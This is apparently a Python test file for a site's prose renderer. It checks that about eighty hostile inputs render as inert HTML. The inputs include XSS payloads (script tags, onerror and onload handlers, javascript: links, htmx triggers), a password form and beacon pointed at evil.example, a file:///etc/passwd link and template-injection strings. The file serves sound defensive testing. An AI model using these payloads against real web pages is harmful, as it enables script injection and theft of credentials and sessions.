"""Whatever staff paste, the page stays a page: no script, no style, whole HTML."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from exercises import prose
from exercises.invisible import INVISIBLE

ALLOWED = {"p", "em", "strong", "ul", "ol", "li", "div", "a", "sup"}
ATTRIBUTES = {"href", "rel", "id", "aria-label", "class"}
DRAWN = re.compile(r'<div class="prose-figure"><svg.*?</svg></div>')
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1)</script>",
    "</p></div></main><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'/>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div class='btn' hx-get='/record/' hx-trigger='load'>x</div>",
    "<a hx-post='/accounts/logout/' hx-trigger='revealed'>x</a>",
    "<p data-hx-get=/record/>x</p>",
    "<div hx-on:click='alert(1)'>x</div>",
    "<form action=https://evil.example/><input name=password></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html><html><body>x",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](http://evil.example/)",
    "[x](https://a.example/ \"' onmouseover='alert(1)\")",
    '[x](https://a.example/"onmouseover=alert(1))',
    "[x](<https://a.example/' onclick='alert(1)>)",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://evil.example/>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/beacon.gif)",
    "**[x](javascript:alert(1))**",
    "- [x](javascript:alert(1)\n- <b>x",
    "1. <ol><li></ol></li>\n2. </ol></p>",
    "*a **b* c** _d __e_ f__",
    '[@long2004"><script>alert(1)</script>]',
    "[@<img src=x onerror=alert(1)>]",
    "```\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "# <script>alert(1)</script>",
    "> <iframe>",
    "| a | <script> |\n|---|---|\n| <style> | x |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\\<script>alert(1)</script>",
    "\x00<script\x00>alert(1)</script>",
    "\x08\x0b\x1b[31mred\x7f",
    "\u202egnihtyna\u202c \u2066x\u2069",
    "\ufeff\u200b<script>",
    "::: care\n<script>alert(1)</script>\n:::",
    "::: do\n::: care\nunclosed",
    '::: figure "><script>alert(1)</script>\n:::',
    "::: figure ../../etc/passwd\n:::",
    "::: script\nalert(1)\n:::",
    "{{ settings.SECRET_KEY }} {% load x %}",
    "${alert(1)} #{x} {{constructor.constructor('alert(1)')()}}",
]


class Reader(HTMLParser):
    """Takes note of each tag, and of each that closes another than the last."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.open.append(tag)
        if tag not in ALLOWED:
            self.problems.append(tag)
        for name, value in attrs:
            self.note(name, value or "")

    def note(self, name: str, value: str) -> None:
        if name not in ATTRIBUTES:
            self.problems.append(name)
        if name == "href" and not value.startswith(("https://", "/", "#")):
            self.problems.append(value)
        if name == "href" and value.startswith("//"):
            self.problems.append(value)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.problems.append(f"/{tag}")

    def handle_comment(self, data: str) -> None:
        self.problems.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.problems.append("declaration")


def problems(text: str) -> list[str]:
    html = DRAWN.sub("", prose.render(text))  # the project's own drawings
    reader = Reader()
    reader.feed(html)
    reader.close()
    unseen = [c for c in html if INVISIBLE.fullmatch(c)]
    return [*reader.problems, *reader.open, *unseen]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_is_inert(text: str) -> None:
    assert problems(text) == []


def test_there_are_60_and_more_of_them() -> None:
    assert len(set(HOSTILE)) >= 60


@pytest.mark.parametrize(
    "text",
    [
        "[" * 1_000_000,
        " " * 1_000_000,
        "*" * 1_000_000,
        "<a " * 333_333,
        "[@a] " * 200_000,
    ],
    ids=["brackets", "spaces", "stars", "tags", "citations"],
)
def test_a_million_letters_are_inert_and_end(text: str) -> None:
    assert problems(text) == []


PIECES = st.sampled_from(
    [
        "<",
        ">",
        "</",
        "script",
        "[",
        "](",
        ")",
        "javascript:",
        "*",
        "**",
        "_",
        "- ",
        "\n",
        "\n\n",
        "1. ",
        ":::",
        "::: care\n",
        "::: figure press-up\n",
        "[@long2004]",
        "[@",
        "]",
        "&lt;",
        "&#60;",
        '"',
        "'",
        "onerror=",
        "hx-get=",
        "\u202e",
        "\x00",
        "\\",
        " ",
        "x",
    ]
)


@settings(max_examples=150, deadline=None)
@given(st.lists(PIECES | st.text(max_size=5), max_size=40).map("".join))
def test_whatever_is_written_is_inert_and_whole(text: str) -> None:
    assert problems(text) == []
